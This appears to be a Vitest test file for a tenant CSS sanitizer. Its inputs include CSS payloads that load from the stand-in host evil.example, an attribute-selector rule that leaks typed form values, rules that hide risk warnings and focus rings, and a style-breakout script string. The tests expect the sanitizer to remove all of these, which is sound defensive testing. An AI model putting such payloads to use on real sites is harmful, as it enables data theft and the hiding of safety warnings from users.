import { describe, expect, it } from 'vitest';
import { customization } from '#contract/customization.ts';
import { cleanTenantCss, tenantStylesheet } from './tenant-css.server.ts';

describe('cleanTenantCss', () => {
  it('keeps what styles the tenant’s pages', () => {
    expect(cleanTenantCss('.card { color: red } @media (width > 600px) { .card { color: blue } }')).toContain(
      '.card{color:red}',
    );
    expect(cleanTenantCss('header{background:url(/tenants/aurora/cover.svg)}')).toContain('/tenants/aurora/cover.svg');
    expect(cleanTenantCss(':root{--lj-accent:#123456}')).toContain('--lj-accent:#123456');
  });

  it('lets nothing in from elsewhere', () => {
    const css = `@import url("https://evil.example/a.css"); @import "//evil.example/b.css"; @namespace url(http://evil.example);
      @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
      .a { background: url(https://evil.example/p.png) } .b { background: url("//evil.example/p.png") }
      .c { background-image: image-set("https://evil.example/q.png" 1x) } .d { cursor: url(\\68ttps://evil.example/c.cur), auto }
      input[value^="a"] { background: url(https://evil.example/?a) } .e { --x: url(https://evil.example/y) }`;
    expect(cleanTenantCss(css)).not.toContain('evil.example');
  });

  it('touches no risk warning, no focus ring and no token of theirs', () => {
    const css = `.risk-warning { display: none } [class*="risk"] { opacity: 0 } :focus-visible { outline: none } a { outline: 0 !important }
      [data-protected] { color: #fff } :root { --lj-focus: #fff; --lj-caution: #fff } @layer lj-protected { * { outline: none !important } }
      .impersonation { display: none } div:has(.x) { display: none }`;
    expect(cleanTenantCss(css).trim()).toBe('');
  });

  it('is empty for what is no css, and never throws', () => {
    for (const css of [
      '',
      '   ',
      '}}}}',
      '</style><script>alert(1)</script>',
      '{',
      '@media',
      '\0',
      'a{'.repeat(5000),
    ]) {
      expect(cleanTenantCss(css)).not.toContain('<script');
    }
  });
});

it('a stylesheet’s address changes with what is in it', () => {
  const one = tenantStylesheet(customization.parse({}));
  const two = tenantStylesheet(customization.parse({ css: '.x{color:red}' }));
  expect(one.hash).not.toBe(two.hash);
  expect(two.css).toContain('--lj-accent');
});
